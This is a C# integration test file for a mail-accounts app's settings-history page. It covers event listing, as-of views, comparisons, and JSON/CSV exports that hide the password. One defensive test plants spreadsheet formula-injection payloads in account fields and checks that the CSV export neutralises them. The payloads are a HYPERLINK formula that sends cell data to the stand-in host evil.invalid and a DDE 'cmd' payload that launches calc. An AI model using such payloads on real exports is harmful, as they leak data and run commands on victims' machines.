using System.Net;
using System.Text.RegularExpressions;
using Marten;
using MailAccounts.Domain.Accounts;
using MailAccounts.Infrastructure.History;
using MailAccounts.Specs.Support;
using Microsoft.Extensions.DependencyInjection;

namespace MailAccounts.Specs.Integration.History;

[Collection(ProductCollection.Name)]
public sealed class when_auditing_an_accounts_history(ProductFixture product)
{
    private static string VersionIn(string html) => Dom.Parse(html).Field("Input.Version")!;

    /// <summary>An account created, then its port changed (with the password typed again), then its folders: three saves by the user.</summary>
    private async Task<(TestUser User, Guid Account, string History)> ChangedAccountAsync()
    {
        var user = await product.NewUserAsync();
        var form = AccountForms.Valid("Audited " + Guid.NewGuid().ToString("N")[..6], "audit@example.com");
        (await user.Session.SubmitAsync(AccountForms.AddPage, form)).Status.ShouldBe(HttpStatusCode.Redirect);
        var list = (await user.Session.GetAsync("/Email/Settings/Accounts")).Html;
        var edit = AccountForms.EditPathIn(list);
        var version = VersionIn((await user.Session.GetAsync(edit)).Html);
        // Another port needs the password typed again: the saved one goes only where it was saved for.
        (await user.Session.SubmitAsync(edit, form.With("Input.Port", "143").With("Input.UseSsl", "false").With("Input.Version", version)))
            .Status.ShouldBe(HttpStatusCode.Redirect);
        version = VersionIn((await user.Session.GetAsync(edit)).Html);
        (await user.Session.SubmitAsync(edit, form.With("Input.Password", "").With("Input.Port", "143").With("Input.UseSsl", "false")
                .With("Input.MonitoredFolders", "Archive").With("Input.Version", version)))
            .Status.ShouldBe(HttpStatusCode.Redirect);
        return (user, Guid.Parse(edit[^36..]), AccountForms.HistoryPathIn(list));
    }

    [Fact]
    public async Task it_lists_exactly_the_events_with_their_actor_and_narrows_to_a_kind_or_a_range_of_days()
    {
        var (user, account, history) = await ChangedAccountAsync();
        using var _ = user;
        var stream = await product.EventsOfAsync(account);

        var page = await user.Session.GetAsync(history);
        page.Events().ShouldBe(stream.Select(e => (e.Version, e.Data.GetType().Name)).Reverse());
        page.Dom.Texts("#history [data-who]").Distinct().ShouldBe(["Test " + user.Login]);
        page.Changes().ShouldContain(("993", "143"));
        page.Changes().ShouldContain(c => c.After == "Archive");

        var ports = await user.Session.GetAsync($"{history}?kind=IncomingServerConfigured");
        ports.Events().Select(e => e.Event).ShouldBe(stream.Where(e => e.Data is IncomingServerConfigured).Select(_ => nameof(IncomingServerConfigured)));
        var tomorrow = DateTime.UtcNow.AddDays(1).ToString("yyyy-MM-dd");
        (await user.Session.GetAsync($"{history}?from={tomorrow}")).Events().ShouldBeEmpty();
        (await user.Session.GetAsync($"{history}?to={tomorrow}")).Events().Count.ShouldBe(stream.Count);
    }

    [Fact]
    public async Task as_of_any_event_it_shows_the_whole_settings_of_that_moment_and_compares_two_moments()
    {
        var (user, account, history) = await ChangedAccountAsync();
        using var _ = user;
        var stream = await product.EventsOfAsync(account);

        Account? state = null;
        foreach (var e in stream)
        {
            state = Account.Evolve(state, e.Data);
            var page = await user.Session.GetAsync($"{history}?asOf={e.Version}");
            var values = page.Dom.All("#as-of tr[data-value]").Select(row => row.GetAttribute("data-value")!).ToArray();
            values.Length.ShouldBe(Account.Settings(state).Count, $"as of version {e.Version}");
            if (state!.Incoming is { } incoming)
            {
                values.ShouldContain(incoming.Port.ToString(System.Globalization.CultureInfo.InvariantCulture));
            }

            values.ShouldContain(string.Join(", ", state.MonitoredFolders));
        }

        // Just before the port changed, and after the folders changed.
        var saved = stream.Where(e => e.Data is IncomingServerConfigured).Skip(1).First().Version - 1;
        var compared = await user.Session.GetAsync($"{history}?a={saved}&b={stream[^1].Version}");
        compared.Changes("#comparison").ShouldContain(("993", "143"));
        compared.Changes("#comparison").ShouldContain(("INBOX", "Archive"));
    }

    [Fact]
    public async Task as_of_matches_the_state_after_each_event_for_a_stream_with_every_kind_of_account_event()
    {
        using var user = await product.NewUserAsync();
        var owner = await product.UserIdAsync(user.Login);
        var id = Guid.CreateVersion7();
        var at = DateTimeOffset.UtcNow.AddMinutes(-30);
        var provider = Guid.NewGuid();
        object[] events =
        [
            new AccountCreated(id, owner, AccountKind.Individual, "Every event", "Anna", "anna@example.com", owner, at),
            new AccountDetailsChanged(id, "Every event", "Anna Smirnova", "anna@example.com", owner, at.AddMinutes(1)),
            new IncomingServerConfigured(id, IncomingProtocol.Imap, "imap.example.com", 993, TransportSecurity.SslOnConnect, owner, at.AddMinutes(2)),
            new CredentialsChanged(id, "anna", Guid.NewGuid(), owner, at.AddMinutes(3)),
            new FoldersSelected(id, ["INBOX", "Archive"], owner, at.AddMinutes(4)),
            new TrashFolderSelected(id, "Trash", owner, at.AddMinutes(5)),
            new SentFolderSelected(id, "Sent", owner, at.AddMinutes(6)),
            new OutgoingConfigured(id, "Anna", "anna@example.com", "archive@example.com", null, owner, at.AddMinutes(7)),
            new CertificateTrusted(id, "imap.example.com", new string('a', 64), owner, at.AddMinutes(8)),
            new ConnectionTested(id, false, "Authentication", "535 refused", owner, at.AddMinutes(9)),
            new TestEmailSent(id, "boris@example.com", true, "250 ok", owner, at.AddMinutes(10)),
            new SignatureAttached(id, Guid.NewGuid(), owner, at.AddMinutes(11)),
            new MailAccounts.Domain.Sending.MailSent(id, Guid.NewGuid(), "m1@example.com", 2, 1, true, "250 ok", owner, at.AddMinutes(12)),
            new MailAccounts.Domain.Sending.MailNotSent(id, Guid.NewGuid(), "m2@example.com", 1, 1, true, "550 no", owner, at.AddMinutes(13)),
            new MailAccounts.Domain.Sending.MailSendingUndone(id, Guid.NewGuid(), "m3@example.com", owner, at.AddMinutes(13).AddSeconds(30)),
            new AccessGranted(id, owner, owner, at.AddMinutes(14)),
            new AccessRevoked(id, owner, owner, at.AddMinutes(15)),
            new AccountDeactivated(id, "Audit", owner, at.AddMinutes(16)),
            new AccountReactivated(id, owner, at.AddMinutes(17)),
            new ImportChosen(id, true, ["INBOX"], new DateOnly(2026, 11, 1), owner, at.AddMinutes(18)),
            new ImportChosen(id, true, [], null, owner, at.AddMinutes(19)),
            new AccountAuthorised(id, provider, "anna@example.com", "mail", Guid.NewGuid(), owner, at.AddMinutes(20)),
            new AuthorisationLost(id, provider, "invalid_grant", MailAccounts.Domain.Common.Actors.System, at.AddMinutes(21)),
            new AccountReconnected(id, provider, "anna@example.com", "mail", Guid.NewGuid(), owner, at.AddMinutes(22)),
        ];
        var kinds = typeof(AccountCreated).Assembly.GetTypes()
            .Where(t => t.Namespace is "MailAccounts.Domain.Accounts" or "MailAccounts.Domain.Sending" && typeof(MailAccounts.Domain.Common.IAuditedEvent).IsAssignableFrom(t))
            .Select(t => t.Name).Except(["AccountDeleted"]).Order();
        events.Select(e => e.GetType().Name).Distinct().Order().ShouldBe(kinds, "every kind of account event but deletion, which ends the history");
        await using (var session = product.Services.GetRequiredService<IDocumentStore>().LightweightSession())
        {
            session.Events.StartStream<Account>(id, events);
            await session.SaveChangesAsync();
        }

        Account? state = null;
        var version = 0;
        foreach (var e in events)
        {
            state = Account.Evolve(state, e);
            version++;
            var page = await user.Session.GetAsync($"/Email/Settings/Accounts/History/{id}?asOf={version}");
            var values = page.Dom.All("#as-of tr[data-value]").Select(row => row.GetAttribute("data-value")).ToArray();
            values.Length.ShouldBe(Account.Settings(state).Count, $"as of {e.GetType().Name}");
            values.ShouldContain(state!.Name);
        }
    }

    [Fact]
    public async Task its_export_as_json_and_as_csv_round_trips_and_hides_the_password()
    {
        var (user, account, history) = await ChangedAccountAsync();
        using var _ = user;
        await using var session = product.Services.GetRequiredService<IDocumentStore>().QuerySession();
        var expected = HistoryExport.Entries(
            await SettingsHistory.LoadAsync<Account>(session, account, Account.Evolve, Account.Settings, CancellationToken.None), Account.PasswordSetting);

        using var json = await user.Session.GetResponseAsync($"{history}?handler=Export&format=json");
        json.Content.Headers.ContentType!.MediaType.ShouldBe("application/json");
        json.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
        var exported = HistoryExport.FromJson(await json.Content.ReadAsStringAsync());
        exported.SequenceEqual(expected, new ExportedEntryComparer()).ShouldBeTrue();
        exported.Count.ShouldBe((await product.EventsOfAsync(account)).Count);

        using var csv = await user.Session.GetResponseAsync($"{history}?handler=Export&format=csv");
        csv.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        var text = await csv.Content.ReadAsStringAsync();
        HistoryExport.FromCsv(text).SequenceEqual(expected, new ExportedEntryComparer()).ShouldBeTrue();

        var secret = (await product.AccountsOfAsync(await product.UserIdAsync(user.Login))).Single().Incoming!.PasswordSecretId.ToString();
        text.ShouldNotContain(secret);
        text.ShouldContain("Password,\\N,changed");

        using var stranger = await product.NewUserAsync();
        (await stranger.Session.GetAsync(history)).Status.ShouldBe(HttpStatusCode.NotFound);
        (await stranger.Session.GetAsync($"{history}?handler=Export&format=csv")).Status.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task its_csv_export_defuses_cells_a_spreadsheet_would_run_as_formulas_and_still_round_trips()
    {
        using var user = await product.NewUserAsync();
        var title = "=HYPERLINK(\"https://evil.invalid/?\"&A1,\"Invoice\") " + Guid.NewGuid().ToString("N")[..6];
        var form = AccountForms.Valid(title, "formula@example.com", name: "@SUM(1+1)");
        (await user.Session.SubmitAsync(AccountForms.AddPage, form)).Status.ShouldBe(HttpStatusCode.Redirect);
        var list = (await user.Session.GetAsync("/Email/Settings/Accounts")).Html;
        var edit = AccountForms.EditPathIn(list);
        var version = VersionIn((await user.Session.GetAsync(edit)).Html);
        (await user.Session.SubmitAsync(edit, form.With("Input.Password", "").With("Input.Name", "-2+3").With("Input.Version", version)))
            .Status.ShouldBe(HttpStatusCode.Redirect);
        version = VersionIn((await user.Session.GetAsync(edit)).Html);
        (await user.Session.SubmitAsync(edit, form.With("Input.Password", "").With("Input.Name", "'+cmd|' /C calc'!A0").With("Input.Version", version)))
            .Status.ShouldBe(HttpStatusCode.Redirect);
        var account = Guid.Parse(edit[^36..]);
        await using var session = product.Services.GetRequiredService<IDocumentStore>().QuerySession();
        var expected = HistoryExport.Entries(
            await SettingsHistory.LoadAsync<Account>(session, account, Account.Evolve, Account.Settings, CancellationToken.None), Account.PasswordSetting);

        using var csv = await user.Session.GetResponseAsync($"{AccountForms.HistoryPathIn(list)}?handler=Export&format=csv");
        var text = await csv.Content.ReadAsStringAsync();

        // A cell, quoted or not, that starts with what Excel or LibreOffice would run: none; each is text, with an apostrophe.
        Regex.Matches(text, "(?:^|,)\"?(?:[=+\\-@\t]|\r(?!\n))", RegexOptions.Multiline).Select(m => m.Value).ShouldBeEmpty();
        text.ShouldContain("'=HYPERLINK(");
        text.ShouldContain("'@SUM(1+1)");
        text.ShouldContain("'-2+3");
        text.ShouldContain("''+cmd|");
        HistoryExport.FromCsv(text).SequenceEqual(expected, new ExportedEntryComparer()).ShouldBeTrue();
        expected.SelectMany(e => e.Changes).Select(c => c.After).ShouldContain(title);
        expected.SelectMany(e => e.Changes).Select(c => c.After).ShouldContain("'+cmd|' /C calc'!A0");
    }

    private sealed class ExportedEntryComparer : IEqualityComparer<ExportedEntry>
    {
        public bool Equals(ExportedEntry? x, ExportedEntry? y) =>
            x is not null && y is not null && x.Version == y.Version && x.At == y.At && x.By == y.By && x.ByName == y.ByName && x.Event == y.Event
            && x.Succeeded == y.Succeeded && x.Detail == y.Detail && x.Changes.SequenceEqual(y.Changes);

        public int GetHashCode(ExportedEntry obj) => obj.Version.GetHashCode();
    }
}
